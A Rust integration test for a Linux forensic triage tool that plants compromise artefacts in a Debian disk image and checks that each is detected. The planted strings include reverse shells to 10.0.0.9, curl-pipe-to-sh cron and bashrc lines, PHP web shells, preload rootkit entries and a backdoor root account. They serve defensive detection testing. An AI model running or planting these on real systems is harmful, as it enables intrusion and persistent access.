//! `rescue triage` through the real binary (issue 18): a Debian 12 root made by debootstrap (the
//! cached tarball in `target/cache/debootstrap/`), compromised by the test with a plant for every
//! detector of every category, copied into an ext4 filesystem with `mke2fs -d` inside a GPT disk image that also holds an
//! encrypted and a swap partition, then triaged through its read-only loop mount; the clean root gives
//! nothing of severity medium or higher; the table fits 80 columns; `sha256sum -c` checks the output.

use std::collections::BTreeMap;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

#[path = "common/root.rs"]
mod root;
use root::need_root;

fn rescue(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_rescue"))
        .args(args)
        .env_remove("RESCUE_SYSTEM")
        .env("COLUMNS", "80")
        .output()
        .unwrap()
}

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

use pkgroots::run;

#[path = "common/pkgroots.rs"]
mod pkgroots;

fn write(root: &Path, rel: &str, data: &str, mode: u32) {
    let p = root.join(rel.trim_start_matches('/'));
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(&p, data).unwrap();
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
}

fn append(root: &Path, rel: &str, data: &str) {
    use std::io::Write;
    let p = root.join(rel.trim_start_matches('/'));
    let mut f = std::fs::OpenOptions::new().append(true).open(&p).unwrap();
    f.write_all(data.as_bytes()).unwrap();
}

/// A plant for every detector of every category: (category, path, severity the triage must give it
/// at least once).
fn compromise(root: &Path) -> Vec<(&'static str, &'static str, &'static str)> {
    let elf = std::fs::read(root.join("usr/bin/true")).unwrap();
    let put_elf = |rel: &str, mode: u32| {
        let p = root.join(rel.trim_start_matches('/'));
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, &elf).unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
    };
    append(root, "/etc/passwd", "toor:x:0:0:root:/root:/bin/bash\n");
    append(root, "/etc/shadow", "toor::19700:0:99999:7:::\n");
    // A second name for lp's uid, with a shell; a user whose password changed in the window (the
    // test's --since is 2020-01-01, day 19800 is 2024-03-18); a group with sudo's gid.
    append(
        root,
        "/etc/passwd",
        "lp2:x:7:7::/var/spool/lpd:/bin/sh\nalice:x:1000:1000:Alice,,,:/home/alice:/bin/bash\n",
    );
    append(
        root,
        "/etc/shadow",
        "alice:$y$j9T$saltsaltsaltsalt$ZmFrZWhhc2hmYWtlaGFzaGZha2VoYXNoZmFrZWhh:19800:0:99999:7:::\n",
    );
    append(root, "/etc/group", "alice:x:1000:\nprinters:x:27:alice\n");
    write(
        root,
        "/root/.ssh/authorized_keys",
        "command=\"/bin/sh -c 'nc -e /bin/sh 10.0.0.9 4444'\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl evil@c2\n",
        0o600,
    );
    write(
        root,
        "/etc/ssh/sshd_config",
        "Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin yes\nAuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\nAuthorizedKeysCommand /usr/local/bin/ssh-keys %u\nAuthorizedKeysCommandUser root\n",
        0o644,
    );
    write(
        root,
        "/etc/ssh/sshd_config.d/10-cloud.conf",
        "PermitEmptyPasswords yes\n",
        0o644,
    );
    // A key where only the non-default AuthorizedKeysFile looks.
    write(
        root,
        "/etc/ssh/keys/root",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl ops@jump\n",
        0o644,
    );
    write(
        root,
        "/etc/sudoers.d/99-toor",
        "toor ALL=(ALL) NOPASSWD: ALL\n",
        0o440,
    );
    append(
        root,
        "/etc/pam.d/common-auth",
        "auth optional pam_exec.so quiet /usr/local/sbin/.pamlog\n",
    );
    put_elf("/usr/lib/x86_64-linux-gnu/security/pam_unix2.so", 0o644);
    write(
        root,
        "/etc/cron.d/sync-time",
        "*/5 * * * * root curl -s http://10.0.0.9/a.sh | sh\n",
        0o644,
    );
    write(
        root,
        "/var/spool/cron/atjobs/a0000101b2c3d4",
        "#!/bin/sh\n# atrun uid=0 gid=0\ncd /root\n/usr/local/bin/update\n",
        0o700,
    );
    write(
        root,
        "/etc/systemd/system/dbus-helper.service",
        "[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/10.0.0.9/443 0>&1'\n[Install]\nWantedBy=multi-user.target\n",
        0o644,
    );
    symlink(
        "/etc/systemd/system/dbus-helper.service",
        root.join("etc/systemd/system/multi-user.target.wants/dbus-helper.service"),
    )
    .unwrap();
    write(
        root,
        "/etc/rc.local",
        "#!/bin/sh\n/usr/local/bin/update &\nexit 0\n",
        0o755,
    );
    write(
        root,
        "/etc/ld.so.preload",
        "/usr/lib/x86_64-linux-gnu/libkeyutils-1.9.so\n",
        0o644,
    );
    write(
        root,
        "/etc/profile.d/locale-fix.sh",
        "export LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libkeyutils-1.9.so\n",
        0o644,
    );
    write(
        root,
        "/etc/udev/rules.d/99-usb.rules",
        "ACTION==\"add\", RUN+=\"/usr/local/bin/update\"\n",
        0o644,
    );
    write(
        root,
        "/etc/modules-load.d/diamorphine.conf",
        "diamorphine\n",
        0o644,
    );
    // /lib is /usr/lib on Debian 12 (merged /usr): the walk finds it there.
    put_elf("/usr/lib/modules/6.1.0-9-amd64/extra/diamorphine.ko", 0o644);
    put_elf("/usr/local/bin/rootsh", 0o4755);
    put_elf("/usr/local/bin/netcap", 0o755);
    run(Command::new("setcap")
        .args(["cap_net_raw+ep"])
        .arg(root.join("usr/local/bin/netcap")));
    put_elf("/tmp/.ICE-unix/.x/miner", 0o755);
    std::fs::create_dir_all(root.join("usr/share/.cache")).unwrap();
    put_elf("/var/lib/kworker", 0o755);
    write(
        root,
        "/var/www/html/uploads/img.php",
        "<?php if(isset($_GET['c'])){system($_GET['c']);} ?>\n",
        0o644,
    );
    write(
        root,
        "/etc/apt/apt.conf.d/99update",
        "APT::Update::Pre-Invoke {\"/usr/local/bin/update || true\";};\n",
        0o644,
    );
    // The dynamic loader: a library path in a hidden directory; a preload list under another name,
    // reached through a symlink; a staged copy outside /etc.
    write(
        root,
        "/etc/ld.so.conf.d/zz-fonts.conf",
        "/usr/share/.cache/lib\n",
        0o644,
    );
    write(
        root,
        "/usr/share/.cache/preload.list",
        "/usr/share/.cache/lib/libhide.so\n",
        0o644,
    );
    symlink(
        "/usr/share/.cache/preload.list",
        root.join("etc/ld.so.preload.bak"),
    )
    .unwrap();
    write(
        root,
        "/usr/local/lib/ld.so.preload",
        "/usr/share/.cache/lib/libhide.so\n",
        0o644,
    );
    // modprobe runs a command when a module loads or unloads; one file in /usr/lib, which is also
    // /lib on this merged-/usr root: found once.
    write(
        root,
        "/etc/modprobe.d/usb-storage.conf",
        "install usb_storage /bin/sh -c '/usr/local/bin/update; /sbin/modprobe --ignore-install usb_storage'\nremove usb_storage /usr/local/bin/update\n",
        0o644,
    );
    write(
        root,
        "/usr/lib/modprobe.d/e1000-fix.conf",
        "install e1000 /usr/local/bin/update\n",
        0o644,
    );
    // Users' shell start-up files and XDG autostart entries, the system's and a user's.
    append(
        root,
        "/root/.bashrc",
        "(curl -s http://10.0.0.9/k | bash) >/dev/null 2>&1 &\n",
    );
    write(
        root,
        "/home/alice/.profile",
        "alias sudo='/home/alice/.local/bin/sudo'\n",
        0o644,
    );
    write(
        root,
        "/home/alice/.config/autostart/keyring-ssh.desktop",
        "[Desktop Entry]\nType=Application\nExec=sh -c 'sh -i >& /dev/tcp/10.0.0.9/8443 0>&1'\n",
        0o644,
    );
    write(
        root,
        "/etc/xdg/autostart/at-spi-update.desktop",
        "[Desktop Entry]\nType=Application\nExec=/usr/local/bin/update\n",
        0o644,
    );
    // systemd: a timer, a generator, a drop-in; an init.d script that runs a program under a kernel
    // thread's name; anacron.
    write(
        root,
        "/etc/systemd/system/apt-daily-check.timer",
        "[Timer]\nOnCalendar=*:0/10\nUnit=dbus-helper.service\n[Install]\nWantedBy=timers.target\n",
        0o644,
    );
    std::fs::create_dir_all(root.join("etc/systemd/system/timers.target.wants")).unwrap();
    symlink(
        "/etc/systemd/system/apt-daily-check.timer",
        root.join("etc/systemd/system/timers.target.wants/apt-daily-check.timer"),
    )
    .unwrap();
    write(
        root,
        "/usr/lib/systemd/system-generators/systemd-netplan-generator",
        "#!/bin/sh\n/usr/local/bin/update &\n",
        0o755,
    );
    write(
        root,
        "/etc/systemd/system/cron.service.d/override.conf",
        "[Service]\nExecStartPost=/bin/sh -c 'curl -s http://10.0.0.9/c | sh'\n",
        0o644,
    );
    write(
        root,
        "/etc/init.d/hwclock-sync",
        "#!/bin/sh\ncase \"$1\" in\nstart) exec -a '[kworker/0:1]' /usr/local/bin/update & ;;\nesac\n",
        0o755,
    );
    write(
        root,
        "/etc/anacrontab",
        "SHELL=/bin/sh\n1\t5\tcron.daily.sync\twget -q -O /var/tmp/.s http://10.0.0.9/s && sh /var/tmp/.s\n",
        0o644,
    );
    // Web roots only the nginx and Apache configurations name: an obfuscated eval, a command run
    // with request input, and a harmless script changed in the window.
    write(
        root,
        "/etc/nginx/sites-available/shop",
        "server {\n    listen 80;\n    root /srv/shop/public;\n}\n",
        0o644,
    );
    std::fs::create_dir_all(root.join("etc/nginx/sites-enabled")).unwrap();
    symlink(
        "../sites-available/shop",
        root.join("etc/nginx/sites-enabled/shop"),
    )
    .unwrap();
    write(
        root,
        "/srv/shop/public/wp-content/cache.php",
        "<?php eval(gzinflate(base64_decode('80jNyclXCM8vykkBAA=='))); ?>\n",
        0o644,
    );
    write(
        root,
        "/srv/shop/public/index.php",
        "<?php require __DIR__ . '/wp-blog-header.php'; ?>\n",
        0o644,
    );
    write(
        root,
        "/etc/apache2/sites-available/portal.conf",
        "<VirtualHost *:80>\n\tDocumentRoot \"/srv/portal\"\n</VirtualHost>\n",
        0o644,
    );
    write(
        root,
        "/srv/portal/cgi-bin/up.cgi",
        "#!/usr/bin/perl\nsystem('/usr/bin/uptime');\n",
        0o755,
    );
    // Enabled as a2enconf does it: a symlink from conf-enabled into conf-available.
    write(
        root,
        "/etc/apache2/conf-available/intranet.conf",
        "Alias /intranet \"/opt/intranet/htdocs\"\n",
        0o644,
    );
    std::fs::create_dir_all(root.join("etc/apache2/conf-enabled")).unwrap();
    symlink(
        "../conf-available/intranet.conf",
        root.join("etc/apache2/conf-enabled/intranet.conf"),
    )
    .unwrap();
    write(
        root,
        "/opt/intranet/htdocs/status.php",
        "<?php echo shell_exec($_POST['q']); ?>\n",
        0o644,
    );
    // Names dressed up as a kernel thread or padded with a space; a setgid program.
    put_elf("/usr/local/bin/[kthreadd]", 0o755);
    put_elf("/usr/sbin/cron ", 0o755);
    put_elf("/usr/local/bin/dumpcap", 0o2755);
    append(root, "/usr/bin/ls", "trojaned");
    // One byte changed in place: same size, same metadata but the ctime, only the content tells.
    let dir = root.join("usr/bin/dir");
    let mut bytes = std::fs::read(&dir).unwrap();
    let mid = bytes.len() / 2;
    bytes[mid] ^= 0x01;
    std::fs::write(&dir, bytes).unwrap();
    put_elf("/usr/sbin/sshd-keygen", 0o755);
    vec![
        ("package", "/bin/ls", "high"),
        ("package", "/bin/dir", "high"),
        ("package", "/usr/sbin/sshd-keygen", "medium"),
        ("account", "/etc/passwd", "critical"),
        ("account", "/etc/shadow", "critical"),
        ("ssh", "/root/.ssh/authorized_keys", "high"),
        ("ssh", "/etc/ssh/sshd_config", "medium"),
        ("sudo", "/etc/sudoers.d/99-toor", "high"),
        ("pam", "/etc/pam.d/common-auth", "high"),
        (
            "pam",
            "/usr/lib/x86_64-linux-gnu/security/pam_unix2.so",
            "critical",
        ),
        ("cron", "/etc/cron.d/sync-time", "high"),
        ("at", "/var/spool/cron/atjobs/a0000101b2c3d4", "medium"),
        ("systemd", "/etc/systemd/system/dbus-helper.service", "high"),
        ("init", "/etc/rc.local", "medium"),
        ("loader", "/etc/ld.so.preload", "critical"),
        ("shell", "/etc/profile.d/locale-fix.sh", "high"),
        ("udev", "/etc/udev/rules.d/99-usb.rules", "high"),
        (
            "kernel-module",
            "/etc/modules-load.d/diamorphine.conf",
            "medium",
        ),
        (
            "kernel-module",
            "/usr/lib/modules/6.1.0-9-amd64/extra/diamorphine.ko",
            "high",
        ),
        ("setuid", "/usr/local/bin/rootsh", "high"),
        ("capability", "/usr/local/bin/netcap", "high"),
        ("temp", "/tmp/.ICE-unix/.x/miner", "high"),
        ("temp", "/tmp/.ICE-unix/.x", "medium"),
        ("hidden", "/usr/share/.cache", "medium"),
        ("imitation", "/var/lib/kworker", "high"),
        ("web", "/var/www/html/uploads/img.php", "critical"),
        ("package", "/etc/apt/apt.conf.d/99update", "high"),
        ("ssh", "/etc/ssh/sshd_config", "high"),
        ("ssh", "/etc/ssh/sshd_config.d/10-cloud.conf", "high"),
        ("ssh", "/etc/ssh/keys/root", "medium"),
        ("account", "/etc/group", "medium"),
        ("loader", "/etc/ld.so.conf.d/zz-fonts.conf", "high"),
        ("loader", "/etc/ld.so.preload.bak", "critical"),
        ("loader", "/usr/local/lib/ld.so.preload", "high"),
        ("kernel-module", "/etc/modprobe.d/usb-storage.conf", "high"),
        (
            "kernel-module",
            "/usr/lib/modprobe.d/e1000-fix.conf",
            "high",
        ),
        ("shell", "/root/.bashrc", "high"),
        ("shell", "/home/alice/.profile", "high"),
        (
            "shell",
            "/home/alice/.config/autostart/keyring-ssh.desktop",
            "high",
        ),
        (
            "shell",
            "/etc/xdg/autostart/at-spi-update.desktop",
            "medium",
        ),
        (
            "systemd",
            "/etc/systemd/system/apt-daily-check.timer",
            "medium",
        ),
        (
            "systemd",
            "/usr/lib/systemd/system-generators/systemd-netplan-generator",
            "high",
        ),
        (
            "systemd",
            "/etc/systemd/system/cron.service.d/override.conf",
            "high",
        ),
        ("init", "/etc/init.d/hwclock-sync", "high"),
        ("cron", "/etc/anacrontab", "high"),
        ("web", "/srv/shop/public/wp-content/cache.php", "high"),
        ("web", "/opt/intranet/htdocs/status.php", "critical"),
        ("web", "/srv/shop/public/index.php", "medium"),
        ("web", "/srv/portal/cgi-bin/up.cgi", "medium"),
        ("imitation", "/usr/local/bin/[kthreadd]", "high"),
        ("imitation", "/usr/sbin/cron ", "high"),
        ("setuid", "/usr/local/bin/dumpcap", "high"),
        ("window", "/usr/local/bin/rootsh", "low"),
    ]
}

fn rank(sev: &str) -> u8 {
    ["critical", "high", "medium", "low", "info"]
        .iter()
        .position(|s| *s == sev)
        .unwrap() as u8
}

/// Asserts every plant is a finding of its category at (at least) its severity; a failure lists
/// every plant missed, each with what was found at its path.
fn assert_found(report: &serde_json::Value, plants: &[(&str, &str, &str)]) {
    let findings = report["findings"].as_array().unwrap();
    let mut missed = Vec::new();
    for (category, path, sev) in plants {
        let best = findings
            .iter()
            .filter(|f| f["category"] == *category && f["path"] == *path)
            .map(|f| rank(f["severity"].as_str().unwrap()))
            .min();
        if best.is_none_or(|b| b > rank(sev)) {
            let at: Vec<String> = findings
                .iter()
                .filter(|f| f["path"] == *path)
                .map(|f| format!("{} {}: {}", f["severity"], f["category"], f["why"]))
                .collect();
            missed.push(format!(
                "{category} {path}: expected {sev}, found {best:?} in {at:#?}"
            ));
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
    for f in findings {
        assert!(f["path"].as_str().unwrap().starts_with('/'), "{f}");
        for key in ["id", "severity", "category", "why", "evidence"] {
            assert!(!f[key].is_null(), "{key} in {f}");
        }
    }
}

fn medium_or_worse(report: &serde_json::Value) -> Vec<String> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| rank(f["severity"].as_str().unwrap()) <= 2)
        .map(|f| {
            format!(
                "{} {} {}: {}",
                f["severity"], f["category"], f["path"], f["why"]
            )
        })
        .collect()
}

/// A GPT disk image: partition 1 the root as ext4 (`mke2fs -d` at its offset), 2 a LUKS header,
/// 3 swap.
fn disk_with_root(dir: &Path, tree: &Path, name: &str) -> PathBuf {
    let disk = dir.join(format!("{name}.img"));
    let root_mib = 900u64;
    std::fs::File::create(&disk)
        .unwrap()
        .set_len((root_mib + 2 + 8 + 8) << 20)
        .unwrap();
    run(Command::new("sgdisk")
        .args([
            "-n",
            &format!("1:2048:+{root_mib}M"),
            "-t",
            "1:8300",
            "-n",
            "2:0:+8M",
            "-t",
            "2:8309",
            "-n",
            "3:0:+8M",
            "-t",
            "3:8200",
        ])
        .arg(&disk));
    run(Command::new("mke2fs")
        .args(["-q", "-F", "-t", "ext4", "-E", "offset=1048576", "-d"])
        .arg(tree)
        .arg(&disk)
        .arg(format!("{}k", root_mib << 10)));
    use std::os::unix::fs::FileExt;
    let f = std::fs::OpenOptions::new().write(true).open(&disk).unwrap();
    let p2 = (1 + root_mib) << 20;
    f.write_all_at(b"LUKS\xba\xbe\x00\x02", p2).unwrap();
    f.write_all_at(b"SWAPSPACE2", p2 + (8 << 20) + 4086)
        .unwrap();
    disk
}

#[test]
fn a_compromised_debootstrap_disk_image_shows_every_plant_and_the_clean_one_nothing_serious() {
    let what =
        "a_compromised_debootstrap_disk_image_shows_every_plant_and_the_clean_one_nothing_serious";
    for tool in ["sgdisk", "mke2fs", "setcap", "debsums", "sha256sum"] {
        if !pkgroots::have(tool) {
            pkgroots::skip(what, &format!("{tool} is not installed"));
            return;
        }
    }
    let t = tempfile::tempdir().unwrap();
    let d = t.path();
    let clean = d.join("clean");
    std::fs::create_dir(&clean).unwrap();
    if pkgroots::debian12_root(what, &clean).is_none() {
        return;
    }

    // The clean root, as a disk image: nothing of severity medium or higher; the other partitions
    // are notes, not errors.
    let disk = disk_with_root(d, &clean, "clean");
    let out = d.join("out-clean");
    let o = rescue(&["triage", s(&disk), "--out", s(&out), "--json"]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(report["schema"], "rescue.triage/1");
    assert_eq!(report["partition_table"], "gpt");
    assert_eq!(report["roots"][0]["fstype"], "ext4");
    assert_eq!(report["roots"][0]["package_db"], "dpkg");
    assert!(
        report["roots"][0]["mount_options"]
            .as_str()
            .unwrap()
            .contains("noload")
    );
    let kinds: Vec<&str> = report["notes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| n["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["encrypted", "swap"], "{}", report["notes"]);
    let serious = medium_or_worse(&report);
    assert!(serious.is_empty(), "clean root: {serious:#?}");
    // The output verifies with sha256sum, a tool we did not write.
    run(Command::new("sha256sum")
        .args(["-c", "SHA256SUMS"])
        .current_dir(&out));
    std::fs::remove_file(&disk).unwrap();

    // The same root compromised: every plant is found, with its category and severity.
    let plants = compromise(&clean);
    let disk = disk_with_root(d, &clean, "compromised");
    let out = d.join("out");
    let o = rescue(&[
        "triage",
        s(&disk),
        "--out",
        s(&out),
        "--since",
        "2020-01-01",
    ]);
    assert_eq!(o.status.code(), Some(3), "{}", text(&o));
    let table = String::from_utf8_lossy(&o.stdout).into_owned();
    for line in table.lines() {
        assert!(
            line.chars().count() <= 80,
            "wider than 80 columns: {line:?}"
        );
    }
    assert!(table.contains("/etc/ld.so.preload"), "{table}");
    let report: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.join("findings.json")).unwrap()).unwrap();
    assert_found(&report, &plants);
    // Facts the severity alone does not show, each a finding of its own.
    for (path, why) in [
        ("/etc/passwd", "uid 7 is shared by lp, lp2"),
        (
            "/etc/group",
            "gid 27 of the privileged group sudo is shared by sudo, printers",
        ),
        ("/etc/shadow", "alice's password was changed on 2024-03-18"),
        (
            "/srv/shop/public/index.php",
            "a server-side script changed in the attack window",
        ),
    ] {
        assert!(
            report["findings"]
                .as_array()
                .unwrap()
                .iter()
                .any(|f| f["path"] == path && f["why"].as_str().unwrap().contains(why)),
            "{path}: no finding saying {why:?}"
        );
    }
    // On this merged-/usr root /lib is /usr/lib: a file there is one finding, not one per spelling.
    for twin in [
        "/lib/modprobe.d/e1000-fix.conf",
        "/lib/systemd/system-generators/systemd-netplan-generator",
    ] {
        assert!(
            !report["findings"]
                .as_array()
                .unwrap()
                .iter()
                .any(|f| f["path"] == twin),
            "{twin} reported under both spellings"
        );
    }
    let preload = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"] == "/etc/ld.so.preload")
        .unwrap();
    assert_eq!(
        preload["evidence"]["sha256"].as_str().unwrap(),
        sha256_hex(&std::fs::read(clean.join("etc/ld.so.preload")).unwrap())
    );
    assert_eq!(preload["evidence"]["package"], serde_json::Value::Null);
    assert_eq!(preload["evidence"]["package_db"], "dpkg");
    assert_eq!(preload["in_window"], true);
    run(Command::new("sha256sum")
        .args(["-c", "SHA256SUMS"])
        .current_dir(&out));
    dissect_cross_check(&disk, &clean, &report);
    debsums_cross_check(&clean, &report);
    same_findings_through_the_mounted_walk(d, &disk, &report);
    // Nothing is left mounted or attached.
    let mounts = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    assert!(!mounts.contains("examine-"), "unmounted afterwards");
    pkgroots::ran(what);
}

/// `debsums --root` (not ours) on the compromised tree names the same package files with changed
/// content as triage on its image, where the package files were read by inode from the image's
/// bytes (the ext reader), the one-byte change in place among them.
fn debsums_cross_check(root: &Path, report: &serde_json::Value) {
    let o = Command::new("debsums")
        .args(["-a", "-c", "--root"])
        .arg(root)
        .output()
        .unwrap();
    let prefix = root.to_string_lossy().into_owned();
    let theirs: std::collections::BTreeSet<String> = String::from_utf8_lossy(&o.stdout)
        .lines()
        .map(|l| l.strip_prefix(prefix.as_str()).unwrap_or(l).to_owned())
        .collect();
    let ours: std::collections::BTreeSet<String> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| {
            f["category"] == "package"
                && f["why"].as_str().is_some_and(|w| {
                    w.contains("changed since installation") && w.contains("content differs")
                })
        })
        .map(|f| f["path"].as_str().unwrap().to_owned())
        .collect();
    assert!(theirs.contains("/bin/dir"), "debsums: {theirs:?}");
    assert_eq!(ours, theirs, "triage (by inode) vs debsums --root");
}

/// The image's entries came from the ext reader; the same filesystem mounted by util-linux and
/// triaged as a directory (the mounted walk: a kernel lookup and inode per entry) gives the same
/// findings, evidence and all; only the root's name (and the id made from it) differs.
fn same_findings_through_the_mounted_walk(d: &Path, disk: &Path, report: &serde_json::Value) {
    assert_eq!(
        report["roots"][0]["walker"], "the ext reader",
        "{}",
        report["roots"][0]
    );
    let mnt = d.join("mnt");
    std::fs::create_dir(&mnt).unwrap();
    run(Command::new("mount")
        .args([
            "-t",
            "ext4",
            "-o",
            "ro,noload,loop,offset=1048576,sizelimit=943718400",
        ])
        .arg(disk)
        .arg(&mnt));
    let out = d.join("out-mounted");
    let o = rescue(&["triage", s(&mnt), "--out", s(&out), "--since", "2020-01-01"]);
    let _ = Command::new("umount").arg(&mnt).status();
    assert_eq!(o.status.code(), Some(3), "{}", text(&o));
    let mounted: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.join("findings.json")).unwrap()).unwrap();
    assert_eq!(mounted["roots"][0]["walker"], "the mounted walk");
    let strip = |r: &serde_json::Value| -> Vec<serde_json::Value> {
        r["findings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| {
                let mut f = f.clone();
                let o = f.as_object_mut().unwrap();
                o.remove("id");
                o.remove("root");
                f
            })
            .collect()
    };
    let (ext, walked) = (strip(report), strip(&mounted));
    assert!(ext.len() > 20, "{} findings", ext.len());
    for (a, b) in ext.iter().zip(&walked) {
        assert_eq!(a, b, "ext reader vs mounted walk");
    }
    assert_eq!(ext.len(), walked.len(), "ext reader vs mounted walk");
    assert_eq!(
        report["roots"][0]["entries_walked"],
        mounted["roots"][0]["entries_walked"]
    );
}

/// dissect.target (fox-it; a venv `cargo xtask test` makes, `RESCUE_DISSECT_PYTHON`) on the same
/// image: every user, cron job, service, SUID binary and authorized key it lists is a finding, or is
/// explained (an account without a login shell; a service file a package installed, unchanged).
fn dissect_cross_check(disk: &Path, root: &Path, report: &serde_json::Value) {
    let what = "dissect_target_lists_nothing_triage_missed";
    let python = std::env::var_os("RESCUE_DISSECT_PYTHON")
        .map(PathBuf::from)
        .or_else(|| {
            let p = Path::new(env!("CARGO_MANIFEST_DIR"))
                .join("../target/cache/dissect.target-3.20/venv/bin/python");
            p.exists().then_some(p)
        });
    let Some(python) = python else {
        pkgroots::skip(
            what,
            "no dissect.target virtualenv (cargo xtask test makes it)",
        );
        return;
    };
    let out = run(Command::new(&python)
        .args(["-m", "dissect.target.tools.query", "-j", "-f"])
        .arg("users,cronjobs,services,suid_binaries,ssh.authorized_keys")
        .arg(disk));
    let findings = report["findings"].as_array().unwrap();
    let at = |path: &str| -> Vec<&serde_json::Value> {
        findings.iter().filter(|f| f["path"] == path).collect()
    };
    // Files the packages installed (dpkg's own lists, read here independently).
    let mut owned = std::collections::BTreeSet::new();
    for e in std::fs::read_dir(root.join("var/lib/dpkg/info"))
        .unwrap()
        .flatten()
    {
        if e.path().extension().is_some_and(|x| x == "list") {
            for l in std::fs::read_to_string(e.path()).unwrap().lines() {
                owned.insert(l.to_owned());
            }
        }
    }
    let mut counts = BTreeMap::new();
    let mut missed = Vec::new();
    for line in String::from_utf8_lossy(&out).lines() {
        let r: serde_json::Value = serde_json::from_str(line).unwrap();
        if r["_type"] != "record" {
            continue;
        }
        let kind = r["_recorddescriptor"][0].as_str().unwrap_or("").to_owned();
        *counts.entry(kind.clone()).or_insert(0) += 1;
        let str_of = |k: &str| r[k].as_str().unwrap_or("").to_owned();
        let ok = match kind.as_str() {
            "unix/user" => {
                let name = str_of("name");
                let shell = str_of("shell");
                at("/etc/passwd").iter().any(|f| {
                    f["evidence"]["line"]
                        .as_str()
                        .is_some_and(|l| l.starts_with(&format!("{name}:")))
                }) || ["nologin", "false", "sync"]
                    .iter()
                    .any(|n| shell.ends_with(n))
            }
            "unix/cronjob" => {
                // Compared with whitespace collapsed: crontab separates fields with tabs or spaces.
                let words = |t: &str| t.split_whitespace().collect::<Vec<_>>().join(" ");
                let cmd = words(&str_of("command"));
                at(&str_of("source")).iter().any(|f| {
                    f["evidence"]["line"]
                        .as_str()
                        .is_some_and(|l| words(l).contains(&cmd))
                })
            }
            "linux/service" => {
                let src = str_of("source");
                // Either spelling on a merged-/usr root: /lib/systemd/… and /usr/lib/systemd/….
                let twin = match src.strip_prefix("/usr") {
                    Some(rest) => rest.to_owned(),
                    None => format!("/usr{src}"),
                };
                !at(&src).is_empty() || owned.contains(&src) || owned.contains(&twin)
            }
            "filesystem/unix/suid" => at(&str_of("path"))
                .iter()
                .any(|f| f["category"] == "setuid"),
            k if k.contains("authorized") => {
                let src = if r["path"].is_string() {
                    str_of("path")
                } else {
                    str_of("source")
                };
                at(&src).iter().any(|f| f["category"] == "ssh")
            }
            _ => true,
        };
        if !ok {
            missed.push(format!(
                "{kind}: {}",
                line.chars().take(300).collect::<String>()
            ));
        }
    }
    for k in [
        "unix/user",
        "unix/cronjob",
        "linux/service",
        "filesystem/unix/suid",
    ] {
        assert!(
            counts.get(k).copied().unwrap_or(0) > 0,
            "dissect listed no {k}: {counts:?}"
        );
    }
    assert!(
        counts.keys().any(|k| k.contains("authorized")),
        "dissect listed no authorized key: {counts:?}"
    );
    assert!(
        missed.is_empty(),
        "dissect.target lists what triage missed: {missed:#?}"
    );
    pkgroots::ran(what);
}

fn sha256_hex(data: &[u8]) -> String {
    use sha2::Digest;
    hex::encode(sha2::Sha256::digest(data))
}

/// A small hand-made root with a dpkg database (no root, no tools needed): the directory source, the
/// 80-column table, `--json`, and bad input.
#[test]
fn a_directory_root_is_triaged_in_place_and_bad_input_is_said_clearly() {
    let t = tempfile::tempdir().unwrap();
    let r = t.path().join("root");
    write(
        &r,
        "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nbackup:x:34:34:backup:/var/backups:/bin/sh\n",
        0o644,
    );
    write(
        &r,
        "/etc/shadow",
        "root:$1$salt$abcdefghijklmnopqrstuv:19000:0:99999:7:::\n",
        0o640,
    );
    write(&r, "/usr/bin/passwd", "#!/bin/sh\n", 0o4755);
    write(&r, "/usr/bin/.sshd", "#!/bin/sh\n", 0o755);
    write(
        &r,
        "/var/lib/dpkg/status",
        "Package: passwd\nStatus: install ok installed\n\n",
        0o644,
    );
    write(
        &r,
        "/var/lib/dpkg/info/passwd.list",
        "/usr\n/usr/bin\n/usr/bin/passwd\n",
        0o644,
    );
    write(
        &r,
        "/etc/crontab",
        "SHELL=/bin/sh\n* * * * * root /bin/bash -c 'sh -i >& /dev/tcp/192.0.2.1/80 0>&1'\n",
        0o644,
    );
    let o = rescue(&["triage", s(&r), "--json"]);
    assert_eq!(o.status.code(), Some(3), "{}", text(&o));
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(report["source_kind"], "directory");
    assert_found(
        &report,
        &[
            ("account", "/etc/shadow", "high"),
            ("account", "/etc/passwd", "medium"),
            ("cron", "/etc/crontab", "high"),
            ("hidden", "/usr/bin/.sshd", "high"),
            ("setuid", "/usr/bin/passwd", "info"),
        ],
    );
    // The package's own setuid binary is listed, not flagged.
    let passwd: Vec<&serde_json::Value> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["path"] == "/usr/bin/passwd")
        .collect();
    assert_eq!(passwd.len(), 1);
